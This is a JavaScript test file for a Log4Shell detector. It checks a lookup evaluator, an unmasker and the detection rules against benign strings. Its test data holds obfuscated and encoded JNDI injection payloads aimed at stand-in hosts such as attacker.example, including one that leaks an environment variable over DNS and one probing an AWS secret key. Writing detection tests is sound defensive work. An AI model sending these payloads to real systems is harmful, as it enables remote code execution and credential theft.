import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluateLookups, log4shellDetector as d, unmaskLookups } from '../src/detect/detect-log4shell.js';
import { hostile, inspectValue, rulesFor } from './helpers/detect-point.js';

describe('Log4j lookup evaluator', () => {
  it('resolves nested and obfuscated lookups to jndi', () => {
    assert.deepEqual(evaluateLookups('${${lower:j}ndi:ldap://x/a}').jndi, ['ldap://x/a']);
    assert.deepEqual(evaluateLookups('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}').jndi, ['rmi://x/a']);
    assert.deepEqual(evaluateLookups('${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}').jndi, ['ldap://x']);
    assert.deepEqual(evaluateLookups("${${date:'j'}${date:'n'}di:dns://x}").jndi, ['dns://x']);
    assert.deepEqual(evaluateLookups('$${env:a:-${env:a:-$}{jndi:ldap://x/a}}}').jndi, ['ldap://x/a']);
  });
  it('leaves unknown variables literal', () => {
    const r = evaluateLookups('Total: ${price} ${user.name}');
    assert.deepEqual(r.jndi, []);
    assert.equal(r.result, 'Total: ${price} ${user.name}');
  });
  it('unmasks percent, \\u and HTML spellings of ${', () => {
    assert.equal(unmaskLookups('%24%7Bjndi:x%7D'), '${jndi:x}');
    assert.equal(unmaskLookups('$\\u007Bjndi:x}'), '${jndi:x}');
    assert.equal(unmaskLookups('&#36;{jndi:x}'), '${jndi:x}');
    assert.equal(unmaskLookups('$&lbrace;jndi:x}'), '${jndi:x}');
  });
});

describe('Log4Shell detector', () => {
  const attacks = [
    '${jndi:ldap://attacker.example/a}',
    '${${lower:j}ndi:${lower:l}dap://attacker.example/a}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}',
    '${jnd${upper:ı}:ldap://attacker.example/a}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D',
    '&#x24;&#00000000000000000000123;jndi:ldap://evil.example/w}',
    'Mozilla/5.0 ${jndi:dns://${env:USER}.x.example}',
  ];
  for (const value of attacks) {
    it(`flags ${value}`, () => {
      const hits = inspectValue(d, value, { location: 'header.user-agent' });
      assert.deepEqual(
        hits.map((h) => h.ruleId),
        ['ST-L4J-001'],
      );
      assert.equal(hits[0]?.severity, 'critical');
    });
  }
  it('reports data lookups without jndi as a probe', () => {
    assert.deepEqual(rulesFor(d, '${env:AWS_SECRET_ACCESS_KEY}'), ['ST-L4J-002']);
  });
  const benign = [
    '${price}',
    'Hello ${user.firstName}, your total is ${total}',
    'costs $5 {approx}',
    'echo ${HOME:-/tmp}',
    '$$$ money $$$',
    'JNDI is a Java API',
  ];
  for (const value of benign) it(`leaves ${value} alone`, () => assert.deepEqual(rulesFor(d, value), []));
  it('survives deep nesting and 1 MB of ${', () => {
    assert.ok(Array.isArray(inspectValue(d, hostile('${'))));
    assert.ok(Array.isArray(inspectValue(d, '${'.repeat(50000) + 'jndi:x' + '}'.repeat(50000))));
  });
});
